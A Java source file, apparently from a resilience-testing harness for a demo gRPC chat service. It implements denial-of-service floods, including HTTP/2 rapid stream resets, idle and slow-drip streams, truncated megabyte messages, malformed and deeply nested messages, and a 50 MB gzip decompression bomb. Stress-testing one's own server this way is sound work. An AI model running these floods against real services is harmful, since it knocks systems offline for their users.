package io.chittychat.demo.faults.flood;

import io.chittychat.demo.faults.http2.Calls;
import io.chittychat.demo.faults.http2.Frames;
import io.chittychat.demo.faults.http2.HeaderBlock;
import io.chittychat.demo.faults.http2.PendingReply;
import io.chittychat.demo.faults.http2.RawConnection;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.ArrayDeque;
import java.util.List;
import java.util.Queue;
import java.util.zip.GZIPOutputStream;

/** Calls that are begun and given up, held open, never finished, or made to be refused. */
final class CallFloods {

    private static final int MANY = 100; // at a time
    private static final int MEGABYTE = 1 << 20;
    private static final String HEALTH = "/grpc.health.v1.Health/Watch";
    private static final String REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

    private CallFloods() {}

    static List<Flood> all() {
        return List.of(
                new Flood("calls reset at once", attack -> reset(attack, HeaderBlock.of("PublishStream"), new byte[0])),
                new Flood(
                        "Broadcasts reset at once",
                        attack -> reset(attack, HeaderBlock.of("Broadcast"), Messages.broadcast(attack.token(), 0))),
                new Flood(
                        "Publishes reset at once",
                        attack -> reset(attack, HeaderBlock.of("Publish"), Messages.publish(attack.token()))),
                new Flood("idle PublishStreams", attack -> idle(attack, HeaderBlock.of("PublishStream"))),
                new Flood("idle Publishes", attack -> idle(attack, HeaderBlock.of("Publish"))),
                new Flood("idle Broadcasts", attack -> idle(attack, HeaderBlock.of("Broadcast"))),
                new Flood(
                        "health watched",
                        attack -> calls(attack, HeaderBlock.ofPath(HEALTH), Messages.of(new byte[0]))),
                new Flood(
                        "reflection asked for nonsense",
                        attack -> calls(attack, HeaderBlock.ofPath(REFLECTION), Messages.malformed())),
                new Flood("partial messages", CallFloods::partial),
                new Flood("messages sent byte by byte", CallFloods::slowly),
                new Flood(
                        "malformed messages on streams",
                        attack -> calls(
                                attack, HeaderBlock.of("PublishStream"), Frames.repeat(Messages.malformed(), MANY))),
                new Flood(
                        "names full of accents",
                        attack -> calls(attack, HeaderBlock.of("Join"), Messages.accents(4000))),
                new Flood(
                        "names full of controls",
                        attack -> calls(attack, HeaderBlock.of("Join"), Messages.controls(9000))),
                new Flood(
                        "messages nested deeply",
                        attack -> calls(attack, HeaderBlock.of("Publish"), Messages.nested(9000))),
                new Flood(
                        "compressed bombs",
                        attack -> calls(
                                attack, HeaderBlock.of("Join").add("grpc-encoding", "gzip"), Messages.of(1, bomb()))),
                new Flood(
                        "unknown methods",
                        attack -> calls(attack, HeaderBlock.of("NoSuchMethod"), Messages.malformed())));
    }

    private static void reset(Attack attack, HeaderBlock block, byte[] body) throws IOException {
        RawConnection connection = attack.connect();
        while (attack.goesOn()) {
            ByteArrayOutputStream batch = new ByteArrayOutputStream();
            for (int i = 0; i < MANY; i++) {
                int stream = connection.nextStream();
                batch.writeBytes(Frames.headers(stream, block));
                batch.writeBytes(body.length == 0 ? body : Frames.lastData(stream, body));
                batch.writeBytes(Frames.reset(stream, Frames.CANCEL));
            }
            attack.send(connection, batch.toByteArray());
        }
    }

    /** Calls on which nothing is ever sent. */
    private static void idle(Attack attack, HeaderBlock block) throws IOException {
        RawConnection connection = attack.connect();
        for (int i = 0; i < 200 && attack.goesOn(); i++) {
            ByteArrayOutputStream batch = new ByteArrayOutputStream();
            for (int k = 0; k < MANY; k++) {
                batch.writeBytes(Frames.headers(connection.nextStream(), block));
            }
            attack.send(connection, batch.toByteArray());
        }
    }

    /** Whole calls, many at a time. */
    private static void calls(Attack attack, HeaderBlock block, byte[] body) throws IOException {
        Calls calls = attack.calls();
        Queue<PendingReply> open = new ArrayDeque<>();
        while (attack.goesOn()) {
            open.add(calls.send(block, body, true));
            if (open.size() > MANY) {
                attack.await(open.remove());
            }
        }
    }

    /** Each announces a megabyte and sends all but its last byte. */
    private static void partial(Attack attack) throws IOException {
        Calls calls = attack.calls();
        byte[] most = Frames.join(Messages.announced(MEGABYTE), new byte[MEGABYTE - 1]);
        while (attack.goesOn()) {
            calls.send(HeaderBlock.of("PublishStream"), most, false);
        }
    }

    private static void slowly(Attack attack) throws IOException {
        RawConnection connection = attack.connect();
        for (int i = 0; i < MANY; i++) {
            connection.send(Frames.headers(connection.nextStream(), HeaderBlock.of("PublishStream")));
        }
        byte[] message = Frames.join(Messages.announced(MEGABYTE), new byte[MEGABYTE]);
        for (byte next : message) {
            ByteArrayOutputStream round = new ByteArrayOutputStream();
            for (int i = 0; i < MANY; i++) {
                round.writeBytes(Frames.data(2 * i + 1, new byte[] {next}));
            }
            attack.send(connection, round.toByteArray());
            attack.pause(1);
        }
    }

    /** Fifty megabytes of nothing. */
    private static byte[] bomb() throws IOException {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
            byte[] part = new byte[MEGABYTE];
            for (int i = 0; i < 50; i++) {
                gzip.write(part);
            }
        }
        return packed.toByteArray();
    }
}
